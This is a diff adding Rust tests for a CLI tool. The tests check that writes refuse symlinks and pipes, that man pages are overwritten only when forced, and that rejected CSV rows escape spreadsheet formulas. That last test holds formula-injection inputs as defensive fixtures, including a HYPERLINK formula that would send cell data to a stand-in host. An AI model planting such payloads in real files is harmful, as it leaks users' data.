@@ -301,3 +301,65 @@ fn commit_times_stay_in_order_when_the_clock_runs_backwards() {
     let known = at("2031-01-03T00:00:00Z", &["report", "stock", "--as-of", "2031-01-01", "--json"]);
     assert!(known.contains("\"in_stock\":2"), "{known}");
 }
+
+#[test]
+fn a_written_file_replaces_no_link_no_device_and_no_file_of_others() {
+    let place = Place::with(1);
+    let folder = place.folder.path();
+    let path = |name: &str| folder.join(name);
+    std::os::unix::fs::symlink("target.csv", path("dangling.csv")).expect("a link");
+    std::os::unix::fs::symlink("people.csv", path("link.csv")).expect("a link");
+    assert!(Command::new("mkfifo").arg(path("pipe.csv")).status().expect("mkfifo").success());
+    place.write("people.csv.new", "of another");
+    for write in [&["export", "persons"][..], &["report", "rate", "-o"]] {
+        for (name, force) in
+            [("dangling.csv", false), ("link.csv", false), ("link.csv", true), ("pipe.csv", true)]
+        {
+            let mut args = [write, &[name]].concat();
+            args.extend(force.then_some("--force"));
+            let (code, text) = place.after("true", &args);
+            assert_eq!(code, 1, "{args:?}: {text}");
+        }
+    }
+    place.fails("true", &["backup", "dangling.csv"], 1, "already exists");
+    assert!(!path("target.csv").exists(), "no link was followed");
+    place.ok(&["export", "persons", "people.csv", "--force"]);
+    assert_eq!(fs::read_to_string(path("people.csv.new")).expect("it stays"), "of another");
+    // Nothing that was not asked for is left behind.
+    let mut names: Vec<_> = fs::read_dir(folder).expect("a folder").flatten().collect();
+    names.retain(|entry| entry.path() != place.store);
+    let mut names: Vec<_> =
+        names.iter().map(|entry| entry.file_name().to_string_lossy().into_owned()).collect();
+    names.sort();
+    let known = ["catalog.csv", "dangling.csv", "link.csv", "people.csv", "people.csv.new"];
+    assert_eq!(names, [&known[..], &["pipe.csv"]].concat());
+}
+
+#[test]
+fn manual_pages_replace_others_only_if_forced() {
+    let place = Place::with(0);
+    place.ok(&["man", "man1"]);
+    let page = place.folder.path().join("man1/assistive.1");
+    fs::write(&page, "mine").expect("a write");
+    place.fails("true", &["man", "man1"], 1, "already exists");
+    place.ok(&["man", "man1", "--force"]);
+    assert!(fs::read_to_string(&page).expect("a page").contains("assistive"));
+}
+
+#[test]
+fn formulas_in_rejected_rows_are_texts() {
+    let place = Place::with(0);
+    let sheet = "key,name,division,guardian,x-memo\n1,\"=HYPERLINK(\"\"http://x/\"\"&A1)\",999999,＝1+1,@SUM(A1)\n\
+        2,'李,999999,王,=A1\n";
+    place.write("wrong.csv", sheet);
+    let (code, text) =
+        place.after("true", &["import", "persons", "wrong.csv", "--on-error", "skip"]);
+    assert_eq!(code, 1, "{text}");
+    let rejected = place.folder.path().join("wrong.csv.rejected.csv");
+    let rejected = fs::read_to_string(rejected).expect("the rejected rows");
+    for row in ["1,####,999999,'＝1+1,'@SUM(A1),", "2,'李,999999,王,'=A1,"] {
+        assert!(rejected.contains(row), "{row} in {rejected}");
+    }
+    // What was wrong is still wrong.
+    place.fails("true", &["import", "persons", "wrong.csv.rejected.csv"], 1, "name");
+}
